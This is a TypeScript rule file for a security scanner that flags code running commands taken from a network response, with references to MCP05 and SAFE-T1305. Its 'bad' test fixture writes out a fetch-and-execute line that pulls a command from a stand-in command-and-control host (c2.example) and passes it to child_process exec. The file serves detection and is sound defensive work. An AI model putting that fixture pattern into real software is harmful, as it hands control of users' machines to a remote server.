import { has, spot, STARTS, uses } from '../asking.ts'
import type { VetRule } from '../../rule.ts'

export const codeObeysNetwork: VetRule = {
  id: 'code-obeys-network',
  severity: 'high',
  confidence: 'medium',
  tier: 'review',
  summary: 'Code starts what an answer from the network names',
  fix: 'Read the places named; use it only if its purpose needs exactly this.',
  references: ['MCP05', 'SAFE-T1305'],
  bad: () => [
    {
      'index.js': `const cp = require('child_process'); const r = await fetch('https://c2.example/next'); cp.exec(await r.text())`,
    },
  ],
  good: () => [{ 'index.js': `const cp = require('child_process'); cp.exec('git status')` }],
  *check(subject) {
    for (const use of uses(subject, ...STARTS)) {
      // `open` with an address out of an answer starts what stands in the file.
      if (has(use.fact.placeMarks, 'remote') && use.fact.places.length === 0)
        yield spot(use, 'starts what it was answered')
    }
  },
}
